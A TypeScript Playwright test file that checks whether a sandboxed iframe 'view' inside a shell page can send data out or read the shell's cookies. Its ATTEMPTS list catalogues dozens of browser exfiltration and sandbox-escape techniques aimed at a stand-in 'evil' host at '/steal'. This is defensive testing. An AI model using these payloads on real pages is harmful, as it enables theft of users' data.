import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { launchBrowser } from '../../../../testing/browser.ts';
import { bundleScript, createSandboxSite } from '../../../../testing/sandbox-site.ts';
import type { SandboxSite } from '../../../../testing/sandbox-site.ts';
import { proxyDocument, sandboxFallbackHeaders, viewDocument } from '../sandbox/documents.ts';

let browser: Browser;
let site: SandboxSite;
let outside: SandboxSite;
let proxyScript: string;
let page: Page;

const SHELL_COOKIE = 'portico_session=secret';

beforeAll(async () => {
  await Promise.all([
    bundleScript('packages/views/src/dom/proxy.ts').then((code) => (proxyScript = code)),
    launchBrowser().then((launched) => (browser = launched)),
    createSandboxSite(sandboxFallbackHeaders()).then((created) => (site = created)),
    createSandboxSite({ 'access-control-allow-origin': '*' }).then((created) => (outside = created)),
  ]);
  const shellOrigin = site.origin('portico');
  for (const name of ['one', 'two']) {
    site.serve(
      name,
      '/view/t',
      proxyDocument({
        shellOrigin,
        appPath: '/view/t/app',
        script: proxyScript,
        nonce: 'n'.repeat(24),
        allow: '',
      }),
    );
    const html = `<!doctype html><body><p>secret of ${name}</p>`;
    site.serve(
      name,
      '/view/t/app',
      viewDocument({ shellOrigin, resource: { uri: 'ui://x', html, csp: {}, permissions: {} } }),
    );
  }
  const frame = (name: string): string =>
    `<iframe name="${name}" sandbox="allow-scripts allow-same-origin allow-forms" src="${site.origin(name)}/view/t"></iframe>`;
  site.serve('portico', '/shell', {
    body: `<!doctype html><title>shell</title><body>${frame('one')}${frame('two')}<script>
      document.cookie = '${SHELL_COOKIE}';
      window.messages = [];
      addEventListener('message', (event) => messages.push(event.origin));
    </script>`,
    headers: { 'content-security-policy': `frame-src http://*.localhost:${site.port}` },
  });
  page = await browser.newPage();
});
afterAll(async () => {
  await browser.close();
  await site.close();
  await outside.close();
});

let view: Frame;
let spoiled = true;
beforeEach(async () => {
  // Only what an attempt may have replaced has to be loaded again.
  if (!spoiled && !view.isDetached()) return;
  spoiled = false;
  await page.goto(`${site.origin('portico')}/shell`);
  const inner = (): Frame | undefined =>
    page.frames().find((frame) => frame.url() === `${site.origin('one')}/view/t/app`);
  await vi.waitUntil(() => inner() !== undefined);
  view = inner() as Frame;
  await view.waitForLoadState();
});

/** Each is the body of an async function in the view; `to` is an address outside. */
const ATTEMPTS: readonly (readonly [string, string])[] = [
  ['fetch', 'await fetch(to)'],
  ['an XMLHttpRequest', 'const r = new XMLHttpRequest(); r.open("GET", to, false); r.send()'],
  ['a beacon', 'navigator.sendBeacon(to, "x")'],
  ['a WebSocket', 'await new Promise((done) => { new WebSocket(to.replace("http", "ws")).onerror = done })'],
  ['an event stream', 'await new Promise((done) => { new EventSource(to).onerror = done })'],
  ['an image', 'await new Promise((done) => { Object.assign(new Image(), { onerror: done, src: to }) })'],
  ['a style sheet', 'await add("link", { rel: "stylesheet", href: to })'],
  ['an imported style', 'await add("style", { textContent: "@import url(" + to + ");" })'],
  ['a font', 'await new FontFace("x", "url(" + to + ")").load()'],
  ['a video', 'await add("video", { src: to })'],
  ['a script', 'await add("script", { src: to })'],
  ['an imported module', 'await import(to)'],
  ['a prefetch', 'await add("link", { rel: "prefetch", href: to })'],
  ['a preload', 'await add("link", { rel: "preload", as: "script", href: to })'],
  ['an object', 'await add("object", { data: to })'],
  ['an embed', 'await add("embed", { src: to })'],
  ['a frame', 'await add("iframe", { src: to })'],
  [
    'a frame with a document of its own',
    'await add("iframe", { srcdoc: "<script>fetch(\'" + to + "\')<\\/script><img src=" + to + ">" })',
  ],
  ['a data frame', 'await add("iframe", { src: "data:text/html,<script>fetch(\'" + to + "\')<\\/script>" })'],
  [
    'a blob frame',
    'await add("iframe", { src: URL.createObjectURL(new Blob(["<img src=" + to + ">"], { type: "text/html" })) })',
  ],
  [
    'a worker',
    'await new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(\'" + to + "\').catch(() => 0).finally(() => postMessage(0))"]))); w.onmessage = done })',
  ],
  ['a shared worker', 'new SharedWorker(URL.createObjectURL(new Blob(["fetch(\'" + to + "\')"])))'],
  ['a service worker', 'await navigator.serviceWorker.register("/view/t/app")'],
  ['a form', 'const f = document.createElement("form"); f.action = to; document.body.append(f); f.submit()'],
  ['a new window', 'window.open(to)'],
  [
    'a link in a new window',
    'Object.assign(document.createElement("a"), { href: to, target: "_blank" }).click()',
  ],
  ['the top window', 'top.location.href = to'],
  ['a refresh', 'await add("meta", { httpEquiv: "refresh", content: "0;url=" + to })'],
  ['its own address', 'location.href = to'],
  ['the proxy’s address', 'parent.location.href = to'],
  ['a frame in the proxy', 'await addTo(parent.document, "iframe", { src: to })'],
  [
    'a script in the proxy',
    'await addTo(parent.document, "script", { textContent: "fetch(\'" + to + "\')" })',
  ],
  [
    'a nonce of the proxy',
    'const s = parent.document.querySelector("script"); await addTo(parent.document, "script", { nonce: s && s.nonce, textContent: "fetch(\'" + to + "\')" })',
  ],
  ['code of the proxy', 'parent.eval("fetch(\'" + to + "\')")'],
  ['fetch of the proxy', 'await parent.fetch(to)'],
  [
    'an image of the proxy',
    'await new Promise((done) => { Object.assign(new parent.Image(), { onerror: done, src: to }) })',
  ],
  [
    'a page of its origin that is an error',
    'const f = parent.document.createElement("iframe"); f.src = "/nothing"; parent.document.body.append(f); await new Promise((done) => { f.onload = done }); await f.contentWindow.fetch(to)',
  ],
  [
    'a frame without its sandbox',
    'const f = parent.document.querySelector("iframe"); f.removeAttribute("sandbox"); window.open(to); top.location.href = to',
  ],
];

const PRELUDE = `
  const addTo = (target, tag, members) => new Promise((done) => {
    const element = Object.assign(target.createElement(tag), members);
    element.onload = element.onerror = done;
    (target.body || target).append(element);
    requestAnimationFrame(() => requestAnimationFrame(done));
  });
  const add = (tag, members) => addTo(document, tag, members);
`;

/** Runs an attempt in the view, whatever becomes of it and of the view. */
async function attempt(body: string): Promise<void> {
  spoiled = /location|parent|submit|refresh|top\b/.test(body);
  const to = `${outside.origin('evil')}/steal`;
  const run = `(async () => { const to = ${JSON.stringify(to)}; ${PRELUDE} ${body} })().catch(() => undefined)`;
  // A view that navigates away takes its evaluation along.
  await view.evaluate(run).catch(() => undefined);
  // Two painted frames later whatever was started has reached the network stack.
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
}

describe('a view that wants out', () => {
  it('would be noticed: the same attempts do get out of a page without policy', async () => {
    const control = await browser.newPage();
    await control.goto(site.serve('free', '/', { body: '<!doctype html><body>' }));
    view = control.mainFrame();
    for (const [name, body] of ATTEMPTS.filter(([title]) =>
      ['fetch', 'an image', 'a script', 'a worker'].includes(title),
    )) {
      const before = outside.requests.length;
      await attempt(body);
      expect([name, outside.requests.length > before]).toEqual([name, true]);
    }
    await control.close();
  });

  it.each(ATTEMPTS)('reaches nothing outside by %s', async (_name, body) => {
    const before = outside.requests.length;
    await attempt(body);
    expect(outside.requests.slice(before)).toEqual([]);
    expect(page.url()).toBe(`${site.origin('portico')}/shell`);
    expect(page.context().pages()).toHaveLength(1);
  });

  it('reads nothing of the shell or of another connector’s view', async () => {
    const reading = await view.evaluate(() => {
      const read = (get: () => unknown): string => {
        try {
          return String(get());
        } catch (error) {
          return (error as Error).name;
        }
      };
      const shell = window.top as Window & { frames: Window };
      return [
        read(() => shell.document.cookie),
        read(() => shell.document.title),
        read(() => (shell.frames[1] as Window).document.body.textContent),
        read(() => ((shell.frames[1] as Window).frames[0] as Window).document.body.textContent),
        document.cookie,
      ];
    });
    expect(reading).toEqual(['SecurityError', 'SecurityError', 'SecurityError', 'SecurityError', '']);
  });

  it('sets no cookie for the shell or for another view', async () => {
    await view.evaluate(() => {
      for (const domain of ['', '; domain=localhost', '; domain=portico.localhost'])
        document.cookie = `planted=1${domain}`;
    });
    expect(await page.evaluate(() => document.cookie)).toBe(SHELL_COOKIE);
    const other = page.frames().find((frame) => frame.url() === `${site.origin('two')}/view/t/app`);
    expect(await other?.evaluate(() => document.cookie)).toBe('');
  });

  it('reaches the shell under its own origin only', async () => {
    await view.evaluate(() => (window.top as Window).postMessage({ jsonrpc: '2.0', method: 'x' }, '*'));
    await page.waitForFunction('window.messages.length > 0');
    expect(new Set((await page.evaluate('window.messages')) as string[])).toEqual(
      new Set([site.origin('one')]),
    );
  });
});
